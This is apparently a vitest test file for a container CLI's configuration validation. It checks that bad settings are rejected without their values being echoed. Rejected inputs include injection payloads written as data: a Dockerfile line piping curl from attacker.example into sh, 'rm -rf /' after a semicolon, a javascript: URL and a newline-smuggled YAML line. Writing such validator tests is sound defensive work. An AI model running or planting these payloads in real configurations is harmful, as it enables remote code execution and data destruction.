import { mkdir, mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { resolveConfig } from '../../src/config/config.js';
import type { FleetDeps } from '../../src/fleet/context.js';
import { productionOptions } from '../../src/fleet/production.js';

/** The CONFIG_INVALID error resolveConfig throws (or undefined). */
function configError(file: unknown, env: Record<string, string>): { code?: string; message: string; hint?: string } | undefined {
  try {
    resolveConfig('/w', file, env);
    return undefined;
  } catch (e) {
    return e as { code?: string; message: string; hint?: string };
  }
}

describe('settings are validated, naming the setting without echoing its value', () => {
  it.each([
    ['NEXUS_FIRESTORE_TIMEOUT_MS', 'abc'],
    ['NEXUS_FIRESTORE_TIMEOUT_MS', '12.5'],
    ['NEXUS_FIRESTORE_TIMEOUT_MS', '5'],
    ['NEXUS_IMAGE_TAG', 'latest\nRUN curl http://attacker.example | sh'],
    ['NEXUS_IMAGE_TAG', 'a b'],
    ['NEXUS_IMAGE_TAG', '-dash'],
    ['NEXUS_BASE_IMAGE', 'node:20\nRUN id'],
    ['BASE_IMAGE', 'Node:20 AS x'],
    ['NEXUS_BIND_ADDRESS', 'localhost; rm -rf /'],
    ['NEXUS_BIND_ADDRESS', '999.1.1.1'],
    ['NEXUS_FIRESTORE_PREFIX', 'a/b'],
    ['NEXUS_ROUTER_URL', 'javascript:alert(1)'],
  ])('%s=%j is CONFIG_INVALID', (name, value) => {
    const err = configError({}, { [name]: value });
    expect(err).toMatchObject({ code: 'CONFIG_INVALID' });
    expect(err!.message).toContain(name);
    expect(err!.message).not.toContain(value);
    expect(err!.message).not.toMatch(/NaN/);
  });

  it.each([
    [{ images: { tag: 'v1 x' } }, 'images.tag'],
    [{ images: { base: 'node:20\nUSER root' } }, 'images.base'],
    [{ ports: { bindAddress: 'any' } }, 'ports.bindAddress'],
    [{ labels: { 'a b$': 'x' } }, 'labels'],
  ])('nexus.yaml %j is CONFIG_INVALID naming %s', (file, field) => {
    expect(configError(file, {})).toMatchObject({ code: 'CONFIG_INVALID', message: expect.stringContaining(field) });
  });

  it('accepts good values', () => {
    const c = resolveConfig('/w', {}, { NEXUS_FIRESTORE_TIMEOUT_MS: '2500', NEXUS_IMAGE_TAG: 'v2.1_rc-1', NEXUS_BIND_ADDRESS: '::1', NEXUS_BASE_IMAGE: 'localhost:5000/node:20-slim@sha256:' + 'a'.repeat(64) });
    expect(c.firestore.timeoutMs).toBe(2500);
    expect(c.images.tag).toBe('v2.1_rc-1');
    expect(c.ports.bindAddress).toBe('::1');
  });
});

describe('--registry for generated files', () => {
  it.each(['localhost:5000/../x', 'a b', 'reg${X}', 'host:5000\nimage: evil'])('refuses %j with USAGE before it prefixes image names', (registry) => {
    const deps = { config: resolveConfig('/w', {}, {}) } as FleetDeps;
    expect(() => productionOptions(deps, { registry })).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });

  it('accepts host[:port]', () => {
    expect(productionOptions({ config: resolveConfig('/w', {}, {}) } as FleetDeps, { registry: 'localhost:5000/' }).registryPrefix).toBe('localhost:5000/');
  });
});

describe('the CLI', () => {
  it('exits 8 (registry), not 1 (internal), when .nexus/registry.json is a directory', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'nexus-settings-'));
    await mkdir(join(dir, '.nexus', 'registry.json'), { recursive: true });
    let err = '';
    const sink = (fn: (s: string) => void) => new Writable({ write: (c, _e, cb) => (fn(String(c)), cb()) });
    const code = await main(['--workspace', dir, 'list'], { stdout: sink(() => {}), stderr: sink((s) => (err += s)), env: {}, cwd: dir });
    expect(code).toBe(8);
    expect(err).toContain('is a directory');
  });

  it('exits 2 naming NEXUS_FIRESTORE_TIMEOUT_MS instead of failing later "within NaN ms"', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'nexus-settings-'));
    let err = '';
    const sink = (fn: (s: string) => void) => new Writable({ write: (c, _e, cb) => (fn(String(c)), cb()) });
    const code = await main(['--workspace', dir, 'list'], { stdout: sink(() => {}), stderr: sink((s) => (err += s)), env: { NEXUS_FIRESTORE_TIMEOUT_MS: 'abc' }, cwd: dir });
    expect(code).toBe(2);
    expect(err).toContain('NEXUS_FIRESTORE_TIMEOUT_MS');
  });
});
